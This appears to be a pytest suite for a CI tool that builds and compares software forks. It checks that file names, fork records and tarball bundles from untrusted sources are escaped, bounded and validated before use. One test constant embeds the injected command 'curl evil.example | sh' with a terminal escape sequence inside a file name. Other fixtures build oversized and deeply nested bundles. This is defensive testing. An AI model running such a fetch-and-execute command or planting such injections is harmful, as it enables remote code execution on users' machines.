"""A fork, its records and its bundles are data from elsewhere: a file name cannot print a line of its choosing, a
record cannot name a commit of the base release, a bundle is bounded and typed before anything is built from it, and
what a user had (a site, a shared fork.yaml, an earlier protocol's runs) is never destroyed before its replacement
is proven."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest
from support.fork_site import make_base_site, stack_for_fork
from support.git_repos import Repo, record_fork
from support.paths import REPO

from ci import cli
from ci.common.errors import UsageError
from ci.common.untrusted import BadInput
from ci.fork import bundle_pair, bundle_read

FORGED = "x\n  fix: curl evil.example | sh\x1b[2J\u2028  fix: also this"


def _ci(*args: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "ci", *args], cwd=REPO, capture_output=True, text=True,
                          timeout=timeout, env={**os.environ, "PYTHONPATH": str(REPO)})  # fmt: skip


def _bundle(path: Path, manifest: dict | bytes, members: dict[str, bytes] | None = None) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    data = manifest if isinstance(manifest, bytes) else json.dumps(manifest).encode()
    with tarfile.open(path, "w:gz") as tar:
        for name, blob in {"stackgate-fork.json": data, **(members or {})}.items():
            info = tarfile.TarInfo(name)
            info.size = len(blob)
            tar.addfile(info, io.BytesIO(blob))
    return path


def _manifest(**edit) -> dict:
    return {"fork": {"name": "f", "ref": "main"}, "base": {"version": "0.26.0"}, "changes": ["46849"], "held": {},
            "without": None, "files": {}, "deleted": [], **edit}  # fmt: skip


def test_a_fork_file_name_cannot_print_a_fix_line_of_its_choosing(stack_copy: Path, fork_repo, tmp_path) -> None:
    repo, ids = fork_repo
    repo.commit("a compiled file of a hostile name", {f"csrc/{FORGED}.cu": "// x\n"})
    path = stack_for_fork(stack_copy, repo, ids)
    done = _ci("fork", "bundle", "--stack", str(path), "--out", str(tmp_path / "b.tar.gz"))
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    lines = done.stderr.splitlines()  # every line break a terminal honours
    assert [line for line in lines if line.lstrip().startswith("fix:")] == [lines[-1]]
    assert "build those from source" in lines[-1] and "\x1b" not in done.stderr
    assert "x\\n  fix: curl evil.example | sh\\x1b[2J\\u2028  fix: also this.cu" in done.stderr


def test_a_carries_record_naming_a_base_release_commit_is_refused_naming_its_line(
    stack_copy: Path, fork_repo, capsys
) -> None:
    repo, ids = fork_repo
    base = {"version": "0.26.0", "ref": "v0.26.0", "commit": "ffd46bfab"}
    record_fork(stack_copy, repo.path, {"46849": [ids["46849"]], "48407": [ids["base"]]}, ref="main", base=base)
    assert cli.main(["fork", "--stack", str(stack_copy)]) == 2
    err = capsys.readouterr().err
    assert f"{stack_copy / 'fork.yaml'}:" in err and "fork.carries.48407.commits[0]" in err
    assert f"commit {ids['base']} is in the history of its base v0.26.0" in err
    assert cli.main(["fork", "--stack", str(stack_copy), "bundle", "--out", "x", "--without", "48407"]) == 2


def test_record_writes_through_a_symlinked_fork_yaml(stack_copy: Path, fork_repo, tmp_path: Path) -> None:
    repo, ids = fork_repo
    path = stack_for_fork(stack_copy, repo, ids)
    shared = tmp_path / "shared" / "fork.yaml"
    shared.parent.mkdir()
    (path / "fork.yaml").rename(shared)
    (path / "fork.yaml").symlink_to(shared)
    assert cli.main(["fork", "--stack", str(path), "--record"]) == 0
    assert (path / "fork.yaml").is_symlink() and "patch_ids" in shared.read_text()


def test_a_damaged_bundle_leaves_the_previous_site_as_it_was(stack_copy: Path, fork_repo, tmp_path: Path) -> None:
    repo, ids = fork_repo
    path = stack_for_fork(stack_copy, repo, ids)
    base, site = make_base_site(tmp_path), tmp_path / "site"
    argv = ["fork", "build", "--stack", str(path), "--host", "--base-site", str(base), "--site", str(site)]
    assert cli.main(argv) == 0
    before = {p.relative_to(site): p.read_bytes() for p in site.rglob("*") if p.is_file()}
    damaged = tmp_path / "damaged.tar.gz"  # a member whose bytes are not the ones its manifest names
    with tarfile.open(tmp_path / "site.bundle.tar.gz") as good, tarfile.open(damaged, "w:gz") as tar:
        for info in good.getmembers():
            data = good.extractfile(info).read()
            data = data + b"# tampered\n" if info.name.startswith("overlay/") else data
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    assert cli.main([*argv, "--bundle", str(damaged)]) == 2
    assert {p.relative_to(site): p.read_bytes() for p in site.rglob("*") if p.is_file()} == before
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".site.")] == []  # no temporary folder left


@pytest.mark.parametrize("what", ["a file", "a symlink"])
def test_a_site_that_is_a_file_or_a_symlink_is_refused(stack_copy, fork_repo, tmp_path: Path, what: str, capsys):
    repo, ids = fork_repo
    path = stack_for_fork(stack_copy, repo, ids)
    base, site, elsewhere = make_base_site(tmp_path), tmp_path / "site", tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "keep.txt").write_text("mine")
    if what == "a file":
        site.write_text("mine")
    else:
        site.symlink_to(elsewhere)
    argv = ["fork", "build", "--stack", str(path), "--host", "--base-site", str(base), "--site", str(site)]
    assert cli.main(argv) == 2
    assert f"--site {site} is {what}, not a folder" in capsys.readouterr().err
    assert (elsewhere / "keep.txt").read_text() == "mine" and (site.is_symlink() or site.read_text() == "mine")


def _compare_without(bundles: Path, tmp_path: Path, monkeypatch) -> int:
    """`ci main --compare-without 46849 --host --bundles DIR` as on a host with the target's GPUs."""
    from ci.run import host

    monkeypatch.setattr(host, "present", lambda target: True)
    base = make_base_site(tmp_path)
    return cli.main(["main", "--compare-without", "46849", "--target", "cuda-sm90", "--host", "--bundles",
                     str(bundles), "--base-site", str(base), "--out", str(tmp_path / "o")])  # fmt: skip


def test_two_bundles_naming_no_commit_are_not_one_commit(tmp_path: Path, monkeypatch, capsys) -> None:
    _bundle(tmp_path / "b" / "fork.tar.gz", _manifest())
    _bundle(tmp_path / "b" / "without-46849.tar.gz", _manifest(without="46849", changes=[]))
    assert _compare_without(tmp_path / "b", tmp_path, monkeypatch) == 2
    assert "fork.tar.gz and without-46849.tar.gz name(s) no fork commit" in capsys.readouterr().err
    assert not (tmp_path / "o").exists()  # refused before anything was built
    with pytest.raises(UsageError, match="no fork commit"):
        bundle_pair.paired(tmp_path / "b", "46849")


def test_a_bundle_whose_held_is_a_list_is_refused_naming_the_field(tmp_path: Path, monkeypatch, capsys) -> None:
    _bundle(tmp_path / "b" / "fork.tar.gz", _manifest(changes=[], held=[]))
    _bundle(tmp_path / "b" / "without-46849.tar.gz", _manifest(without="46849", changes=[]))
    assert _compare_without(tmp_path / "b", tmp_path, monkeypatch) == 2
    assert "fork.tar.gz: stackgate-fork.json: held: should be an object, not a list" in capsys.readouterr().err
    with pytest.raises(BadInput, match="held: should be an object"):
        bundle_read.read(tmp_path / "b" / "fork.tar.gz", "fix")


class _Zeros(io.RawIOBase):
    def readinto(self, b) -> int:  # type: ignore[override]
        b[:] = bytes(len(b))
        return len(b)


@pytest.mark.parametrize("kind", ["deep", "large member", "fifo", "unlisted member"])
def test_a_bundle_is_bounded_and_typed_before_a_site_is_built(stack_copy, fork_repo, tmp_path: Path, kind: str):
    repo, ids = fork_repo
    path = stack_for_fork(stack_copy, repo, ids)
    bundle = tmp_path / "b.tar.gz"
    if kind == "deep":
        _bundle(bundle, b'{"fork": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")
        said = "nested deeper than"
    elif kind == "large member":
        with tarfile.open(bundle, "w:gz", compresslevel=1) as tar:
            info = tarfile.TarInfo("overlay/vllm/big.py")
            info.size = 80 << 20
            tar.addfile(info, _Zeros())
        said = "over the 67,108,864-byte bound for one member"
    elif kind == "fifo":
        os.mkfifo(bundle)
        said = "a FIFO, not a regular file"
    else:
        _bundle(bundle, _manifest(), {"overlay/vllm/extra.py": b"x = 1\n"})
        said = "vllm/extra.py is in the bundle or its manifest but not both"
    site = tmp_path / "site"
    done = _ci("fork", "build", "--stack", str(path), "--host", "--base-site", str(make_base_site(tmp_path)),
               "--site", str(site), "--bundle", str(bundle), timeout=60)  # fmt: skip
    assert done.returncode == 2 and "Traceback" not in done.stderr and said in done.stderr, done.stderr
    assert str(bundle) in done.stderr and not site.exists()


def test_a_reused_out_of_compare_without_is_refused(tmp_path: Path, capsys) -> None:
    out = tmp_path / "o"
    (out / "arms" / "fork" / "run-1").mkdir(parents=True)
    (out / "arms" / "fork" / "run-1" / "junit.xml").write_text("<testsuites/>")
    argv = ["main", "--compare-without", "46849", "--target", "cuda-sm90", "--host", "--bundles", str(tmp_path),
            "--out", str(out)]  # fmt: skip
    assert cli.main(argv) == 2
    err = capsys.readouterr().err
    assert "holds the runs of an earlier --compare-without" in err and "name a new --out" in err


def test_a_checkout_whose_path_holds_a_unicode_line_break_opens(tmp_path: Path) -> None:
    from ci.upstream.checkout import Checkout

    where = tmp_path / "fork\u2028x\x85y"
    repo = Repo(where)
    repo.commit("first", {"a.txt": "a\n"})
    assert Checkout.open(where).path == where
    (where / "sub").mkdir()
    with pytest.raises(UsageError) as err:
        Checkout.open(where / "sub")
    assert err.value.message.endswith(f"it is a folder inside the repository {where}")


def test_a_bundle_member_is_streamed_never_read_whole(tmp_path: Path) -> None:
    """A 1 MB bundle can hold a member of 48 MB of zeros (within the bound for one member): laying it reads and
    hashes it a block at a time, its bytes never whole in memory."""
    import hashlib
    import tracemalloc

    from ci.fork import site

    size = 48 << 20
    digest = hashlib.sha256()
    for _ in range(size >> 20):
        digest.update(bytes(1 << 20))
    bundle = tmp_path / "b.tar.gz"
    manifest = json.dumps(_manifest(changes=[], files={"vllm/big.py": digest.hexdigest()})).encode()
    with tarfile.open(bundle, "w:gz", compresslevel=1) as tar:
        info = tarfile.TarInfo("stackgate-fork.json")
        info.size = len(manifest)
        tar.addfile(info, io.BytesIO(manifest))
        info = tarfile.TarInfo("overlay/vllm/big.py")
        info.size = size
        tar.addfile(info, _Zeros())
    assert bundle.stat().st_size < 1 << 20
    tracemalloc.start()
    try:
        built = site.build(bundle, make_base_site(tmp_path), tmp_path / "site")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert (tmp_path / "site" / "vllm" / "big.py").stat().st_size == size and built["files"]["changed"] == 1
    assert peak < 8 << 20, f"{peak:,} bytes held at once"
